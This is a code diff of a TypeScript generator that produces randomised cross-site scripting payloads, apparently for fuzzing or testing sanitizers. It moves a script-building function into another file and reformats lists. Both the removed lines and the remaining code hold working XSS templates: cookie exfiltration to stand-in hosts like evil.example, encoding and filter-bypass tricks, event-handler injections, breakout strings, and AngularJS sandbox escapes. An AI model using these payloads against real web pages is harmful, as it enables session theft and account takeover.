@@ -3,87 +3,10 @@
 
 import { EVENTS, TAGS } from './html.table.ts';
 import type { Picker } from './picker.ts';
-
-const FUNCTIONS = ['alert', 'confirm', 'prompt', 'print', 'eval', 'fetch', 'console.log', 'document.write', 'import', 'open', 'Function', 'setTimeout'];
-const ARGUMENTS = ['1', '', '0', '9', '/xss/', "'XSS'", '"XSS"', '`1`', 'document.cookie', 'document.domain', 'origin', 'window.name', 'location', 'localStorage.token', '1337', 'String.fromCharCode(88,83,83)', "'hacked'", 'navigator.userAgent', 'this', 'self.origin', 'document.location.href'];
-const HOSTS = ['evil.example', 'attacker.test', 'x.ss', '14.rs', 'xss.rocks', 'localhost', '127.0.0.1:8000', 'a.bc', 'bad.example.net/x.js'];
-
-function host(p: Picker): string {
-  return p.chance(0.3) ? `${p.letters(3, 9)}.${p.pick(['com', 'net', 'io', 'ru', 'xyz', 'example'])}/${p.letters(1, 5)}` : p.pick(HOSTS);
-}
-
-/** An expression that does something. */
-function script(p: Picker): string {
-  const name = p.pick(FUNCTIONS);
-  const plain = p.chance(0.6) ? p.pick(['alert', 'confirm', 'prompt', 'print', 'alert']) : name;
-  const argument = p.pick(ARGUMENTS);
-  const tick = p.pick(['1', 'xss', '${document.cookie}', '', '23']);
-  switch (p.int(0, 32)) {
-    case 0:
-      return `${plain}\`${tick}\``;
-    case 1:
-      return `(${plain})(${argument})`;
-    case 2:
-      return `window['${plain}'](${argument})`;
-    case 3:
-      return `top["${plain.slice(0, 2)}"+"${plain.slice(2)}"](${argument})`;
-    case 4:
-      return `self[/${plain.slice(0, 2)}/.source+/${plain.slice(2)}/.source](${argument})`;
-    case 5:
-      return `eval(atob('${p.from('ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789', 8, 24)}=='))`;
-    case 6:
-      return `[${argument === '' ? '1' : argument}].${p.pick(['find', 'map', 'some', 'every', 'forEach', 'filter', 'findIndex'])}(${plain})`;
-    case 7:
-      return `onerror=${plain};throw ${argument === '' ? '1' : argument}`;
-    case 8:
-      return `{onerror=${plain}}throw ${p.int(1, 1337)}`;
-    case 9:
-      return `import('//${host(p)}')`;
-    case 10:
-      return `fetch('//${host(p)}?c='+document.cookie)`;
-    case 11:
-      return `location='//${host(p)}/?'+document.cookie`;
-    case 12:
-      return `document.location="http://${host(p)}/${p.letters(2, 6)}.php?c="+escape(document.cookie)`;
-    case 13:
-      return `new Image().src='http://${host(p)}/${p.letters(1, 4)}?'+document.cookie`;
-    case 14:
-      return `eval(String.fromCharCode(${p.many(4, 14, ',', () => String(p.int(32, 122)))}))`;
-    case 15:
-      return `${plain}?.(${argument})`;
-    case 16:
-      return `(${p.letters(1, 1)}=${plain},${p.letters(1, 1)}(${argument}))`;
-    case 17:
-      return `setTimeout('${plain}(${argument.replaceAll("'", '"')})',${p.int(0, 900)})`;
-    case 18:
-      return `[]['constructor']['constructor']('${plain}(1)')()`;
-    case 19:
-      return `Function("${plain}(1)")()`;
-    case 20:
-      return `\\u00${plain.charCodeAt(0).toString(16)}${plain.slice(1)}(${argument})`;
-    case 21:
-      return `document.write('<script src=//${host(p)}></script>')`;
-    case 22:
-      return `${plain}.${p.pick(['call', 'apply'])}(null,${p.pick(['1', '[1]', '`1`'])})`;
-    case 23:
-      return `${p.letters(1, 3)}=${plain};${p.letters(1, 3)}(${argument})`;
-    case 24:
-      return `Reflect.apply(${plain},this,[${argument}])`;
-    case 25:
-      return `$.getScript('//${host(p)}')`;
-    case 26:
-      return `with(document)${plain}(cookie)`;
-    case 27:
-      return `globalThis['${plain}'](${argument})`;
-    case 28:
-      return p.many(4, 20, '', () => p.pick(['[]', '![]', '+[]', '(![]+[])[+[]]', '[+!+[]]', '!+[]', '+', '()', '(!![]+[])']));
-    default:
-      return `${plain}(${argument})`;
-  }
-}
+import { script, scriptHost } from './xssScript.ts';
 
 function entities(p: Picker, text: string): string {
-  return [...text]
+  return Array.from(text)
     .map((letter) => {
       const code = letter.charCodeAt(0);
       switch (p.int(0, 3)) {
@@ -101,7 +24,15 @@ function entities(p: Picker, text: string): string {
 }
 
 function scheme(p: Picker): string {
-  const name = p.pick(['javascript', 'javascript', 'javascript', 'vbscript', 'data', 'livescript', 'jAvAsCrIpT']);
+  const name = p.pick([
+    'javascript',
+    'javascript',
+    'javascript',
+    'vbscript',
+    'data',
+    'livescript',
+    'jAvAsCrIpT',
+  ]);
   if (name === 'data')
     return p.pick([
       `data:text/html,<script>${script(p)}</script>`,
@@ -109,7 +40,20 @@ function scheme(p: Picker): string {
       `data:text/html;base64,${p.from('ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/', 20, 60)}`,
       `data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ${p.from('ABCDEFGHabcdefgh0123456789', 10, 40)}`,
     ]);
-  const gap = p.pick(['', '', '', '\t', '\n', '&Tab;', '&NewLine;', '&#9;', '&#x0A;', '\\x09', '%09', '\u0001']);
+  const gap = p.pick([
+    '',
+    '',
+    '',
+    '\t',
+    '\n',
+    '&Tab;',
+    '&NewLine;',
+    '&#9;',
+    '&#x0A;',
+    '\\x09',
+    '%09',
+    '\u0001',
+  ]);
   const at = p.int(1, name.length - 1);
   const written = p.chance(0.15) ? entities(p, name) : name.slice(0, at) + gap + name.slice(at);
   const colon = p.pick([':', ':', ':', '&colon;', '&#58;', '&#x3a;', '%3A']);
@@ -117,7 +61,26 @@ function scheme(p: Picker): string {
 }
 
 function space(p: Picker): string {
-  return p.pick([' ', ' ', ' ', ' ', '/', '\t', '\n', '\r\n', '\f', ' / ', '%20', '%09', '%0a', '%0c', '%0d', '/+/', '\u000b', '  ']);
+  return p.pick([
+    ' ',
+    ' ',
+    ' ',
+    ' ',
+    '/',
+    '\t',
+    '\n',
+    '\r\n',
+    '\f',
+    ' / ',
+    '%20',
+    '%09',
+    '%0a',
+    '%0c',
+    '%0d',
+    '/+/',
+    '\u000b',
+    '  ',
+  ]);
 }
 
 function value(p: Picker, text: string): string {
@@ -127,29 +90,103 @@ function value(p: Picker, text: string): string {
 
 function attribute(p: Picker): string {
   return p.pick([
-    'src=x', 'src=1', 'src', 'href=#', 'id=x', 'tabindex=1', 'autofocus', 'contenteditable', 'draggable=true', 'style=display:block', 'open', 'controls', 'class=x', 'src=//x',
-    'style="animation-name:x"', 'style=transition:color_1s', 'autoplay', 'loop', 'width=100', 'type=image', 'name=x', 'popover', 'accesskey=x', 'hidden', 'contenteditable="true"', 'src=/', 'src="x:x"', 'type=text', 'value=x', 'data=x', 'begin=0s', 'attributeName=x', 'dur=1s', 'hidden=until-found', 'id=x style=overflow:auto',
+    'src=x',
+    'src=1',
+    'src',
+    'href=#',
+    'id=x',
+    'tabindex=1',
+    'autofocus',
+    'contenteditable',
+    'draggable=true',
+    'style=display:block',
+    'open',
+    'controls',
+    'class=x',
+    'src=//x',
+    'style="animation-name:x"',
+    'style=transition:color_1s',
+    'autoplay',
+    'loop',
+    'width=100',
+    'type=image',
+    'name=x',
+    'popover',
+    'accesskey=x',
+    'hidden',
+    'contenteditable="true"',
+    'src=/',
+    'src="x:x"',
+    'type=text',
+    'value=x',
+    'data=x',
+    'begin=0s',
+    'attributeName=x',
+    'dur=1s',
+    'hidden=until-found',
+    'id=x style=overflow:auto',
   ]);
 }
 
 function withEvent(p: Picker): string {
-  const tag = p.chance(0.75) ? p.pick(TAGS) : p.pick(['svg', 'img', 'body', 'input', 'details', 'video', 'iframe', 'x', 'a', 'xss', 'audio', 'marquee', 'select', 'script']);
+  const tag = p.chance(0.75)
+    ? p.pick(TAGS)
+    : p.pick([
+        'svg',
+        'img',
+        'body',
+        'input',
+        'details',
+        'video',
+        'iframe',
+        'x',
+        'a',
+        'xss',
+        'audio',
+        'marquee',
+        'select',
+        'script',
+      ]);
   const event = p.chance(0.9) ? p.pick(EVENTS) : `on${p.letters(4, 12)}`;
   const before = p.many(0, 2, '', () => space(p) + attribute(p));
   const after = p.many(0, 2, '', () => space(p) + attribute(p));
   const open = `<${tag}${before}${space(p)}${event}${p.pick(['=', '=', '=', '=', ' = ', '= ', '%20=', '\n='])}${value(p, script(p))}${after}`;
-  const end = p.pick(['>', '>', '>', ' >', '/>', '//', '', ' <!--', '>test', `></${tag}>`, `>test</${tag}>`, `>XSS</${tag}>`, `><input autofocus>`, '%00>']);
-  const front = p.chance(0.06) ? p.pick(['<style>@keyframes x{}</style>', '<style>@keyframes x{from {left:0;}to {left: 100px;}}:target {animation:10s ease-in-out 0s 1 x;}</style>', '<style>:target {color: red;}</style>', '<style>@keyframes slidein {}</style>']) : '';
+  const end = p.pick([
+    '>',
+    '>',
+    '>',
+    ' >',
+    '/>',
+    '//',
+    '',
+    ' <!--',
+    '>test',
+    `></${tag}>`,
+    `>test</${tag}>`,
+    `>XSS</${tag}>`,
+    `><input autofocus>`,
+    '%00>',
+  ]);
+  const front = p.chance(0.06)
+    ? p.pick([
+        '<style>@keyframes x{}</style>',
+        '<style>@keyframes x{from {left:0;}to {left: 100px;}}:target {animation:10s ease-in-out 0s 1 x;}</style>',
+        '<style>:target {color: red;}</style>',
+        '<style>@keyframes slidein {}</style>',
+      ])
+    : '';
   return front + open + end;
 }
 
 function tag(p: Picker): string {
   const js = script(p);
   switch (p.int(0, 40)) {
-    case 0: case 1: case 2:
+    case 0:
+    case 1:
+    case 2:
       return `<script>${js}</script>`;
     case 3:
-      return `<script${space(p)}src=${value(p, `//${host(p)}`)}></script>`;
+      return `<script${space(p)}src=${value(p, `//${scriptHost(p)}`)}></script>`;
     case 4:
       return `<script${space(p)}${attribute(p)}>${js}</script${p.maybe(0.5, space(p) + p.letters(0, 4))}>`;
     case 5:
@@ -161,7 +198,7 @@ function tag(p: Picker): string {
     case 8:
       return `<object${space(p)}data=${value(p, scheme(p))}>${p.maybe(0.6, '</object>')}`;
     case 9:
-      return `<embed${space(p)}${p.pick(['src', 'code'])}=${value(p, p.chance(0.6) ? scheme(p) : `//${host(p)}`)}>`;
+      return `<embed${space(p)}${p.pick(['src', 'code'])}=${value(p, p.chance(0.6) ? scheme(p) : `//${scriptHost(p)}`)}>`;
     case 10:
       return `<form><${p.pick(['button', 'input type=submit', 'input type=image src=1'])} formaction=${value(p, scheme(p))}>${p.pick(['X', 'Click', ''])}`;
     case 11:
@@ -177,11 +214,11 @@ function tag(p: Picker): string {
     case 16:
       return `<meta http-equiv="refresh" content="${p.int(0, 5)};url=${scheme(p).replaceAll('"', "'")}">`;
     case 17:
-      return `<base href=${value(p, p.chance(0.6) ? `javascript:/${p.letters(1, 3)}/` : `//${host(p)}`)}>`;
+      return `<base href=${value(p, p.chance(0.6) ? `javascript:/${p.letters(1, 3)}/` : `//${scriptHost(p)}`)}>`;
     case 18:
-      return `<link rel=${p.pick(['stylesheet', 'import', '"import"', 'prefetch'])} href=${value(p, p.chance(0.5) ? scheme(p) : `//${host(p)}`)}>`;
+      return `<link rel=${p.pick(['stylesheet', 'import', '"import"', 'prefetch'])} href=${value(p, p.chance(0.5) ? scheme(p) : `//${scriptHost(p)}`)}>`;
     case 19:
-      return `<style>@import${p.pick([" '", ' url(', '"'])}${p.chance(0.5) ? `//${host(p)}` : 'javascript:' + js}${p.pick(["'", ')', '"'])};</style>`;
+      return `<style>@import${p.pick([" '", ' url(', '"'])}${p.chance(0.5) ? `//${scriptHost(p)}` : 'javascript:' + js}${p.pick(["'", ')', '"'])};</style>`;
     case 20:
       return `<div style="${p.pick(['width: expression', 'xss:expression', 'x:exp/**/ression', 'background:url(javascript:', '-moz-binding:url(', 'behavior:url('])}(${js})">`;
     case 21:
@@ -213,7 +250,7 @@ function tag(p: Picker): string {
     case 34:
       return `<${p.pick(['textarea', 'title', 'style', 'xmp', 'noembed', 'noframes', 'template'])}></${p.pick(['textarea', 'title', 'style', 'xmp'])}><img src=x onerror=${js}>`;
     case 35:
-      return `<portal src='https://${host(p)}'>`;
+      return `<portal src='https://${scriptHost(p)}'>`;
     case 36:
       return `<input type="hidden" ${p.pick(['accesskey="X" onclick', 'oncontentvisibilityautostatechange', 'onbeforetoggle', 'popover onbeforetoggle'])}="${js.replaceAll('"', "'")}">`;
     case 37:
@@ -229,17 +266,67 @@ function tag(p: Picker): string {
 
 /** Out of the place where the value lands. */
 function breakout(p: Picker): string {
-  return p.pick(['"', "'", '">', "'>", '"/>', '\'"', '"><', '</script>', '</title>', '</textarea>', '-->', '</style>', ']]>', '\\"', "\\'", '`', '";', "';", '})', '"]', '\';}', '</option></select>', '</a>', '"--><', '\'"()&%<acx>', '*/', "\\');", '"}]', '</noscript>']);
+  return p.pick([
+    '"',
+    "'",
+    '">',
+    "'>",
+    '"/>',
+    '\'"',
+    '"><',
+    '</script>',
+    '</title>',
+    '</textarea>',
+    '-->',
+    '</style>',
+    ']]>',
+    '\\"',
+    "\\'",
+    '`',
+    '";',
+    "';",
+    '})',
+    '"]',
+    "';}",
+    '</option></select>',
+    '</a>',
+    '"--><',
+    '\'"()&%<acx>',
+    '*/',
+    "\\');",
+    '"}]',
+    '</noscript>',
+  ]);
 }
 
 function inScript(p: Picker): string {
   const js = script(p);
   const quote = p.pick(["'", '"', '`', "\\'", '\\"']);
   return p.pick([
-    `${quote}-${js}-${quote}`, `${quote};${js}//`, `${quote}+${js}+${quote}`, `${quote});${js};//`, `${quote}]);${js}//`, `${quote}};${js};{${quote}`, `</script><script>${js}</script>`, `\${${js}}`, `;${js};`, `${quote}/${js}/${quote}`, `${quote}*${js}*${quote}`, `${quote}|${js}|${quote}`, `${quote}^${js}^${quote}`, `${quote}>${js}>${quote}`, `${quote}&&${js}&&${quote}`, `${quote},${js},${quote}`, `\n${js}\n`, `*/${js}/*`, `{{constructor.constructor('${js.replaceAll("'", '"')}')()}}`,
+    `${quote}-${js}-${quote}`,
+    `${quote};${js}//`,
+    `${quote}+${js}+${quote}`,
+    `${quote});${js};//`,
+    `${quote}]);${js}//`,
+    `${quote}};${js};{${quote}`,
+    `</script><script>${js}</script>`,
+    `\${${js}}`,
+    `;${js};`,
+    `${quote}/${js}/${quote}`,
+    `${quote}*${js}*${quote}`,
+    `${quote}|${js}|${quote}`,
+    `${quote}^${js}^${quote}`,
+    `${quote}>${js}>${quote}`,
+    `${quote}&&${js}&&${quote}`,
+    `${quote},${js},${quote}`,
+    `\n${js}\n`,
+    `*/${js}/*`,
+    `{{constructor.constructor('${js.replaceAll("'", '"')}')()}}`,
     `{{$on.constructor('${js.replaceAll("'", '"')}')()}}`,
     `{{a='constructor';b={};a.sub.call.call(b[a].getOwnPropertyDescriptor(b[a].getPrototypeOf(a.sub),a).value,0,'${js.replaceAll("'", '"')}')()}}`,
-    `${quote}${space(p)}${p.pick(EVENTS)}=${js}${space(p)}x=${quote}`, `${quote}${space(p)}autofocus${space(p)}${p.pick(EVENTS)}=${quote}${js}`, `${quote}${space(p)}style=animation-name:x${space(p)}${p.pick(EVENTS)}=${js}//`,
+    `${quote}${space(p)}${p.pick(EVENTS)}=${js}${space(p)}x=${quote}`,
+    `${quote}${space(p)}autofocus${space(p)}${p.pick(EVENTS)}=${quote}${js}`,
+    `${quote}${space(p)}style=animation-name:x${space(p)}${p.pick(EVENTS)}=${js}//`,
   ]);
 }
 
@@ -251,7 +338,8 @@ export function xss(p: Picker): string {
   else if (kind < 84) text = scheme(p);
   else if (kind < 92) text = inScript(p);
   else if (kind < 96) text = p.many(2, 3, '', () => breakout(p)) + tag(p);
-  else if (kind < 98) text = `${breakout(p)}${space(p)}${p.pick(EVENTS)}=${value(p, script(p))}${p.pick(['', ' ', '//', '>', ' x="'])}`;
+  else if (kind < 98)
+    text = `${breakout(p)}${space(p)}${p.pick(EVENTS)}=${value(p, script(p))}${p.pick(['', ' ', '//', '>', ' x="'])}`;
   else text = script(p);
   if (p.chance(0.2)) text = breakout(p) + text;
   if (p.chance(0.05)) text = `${p.letters(2, 8)}${p.pick(['', ' ', '='])}${text}`;
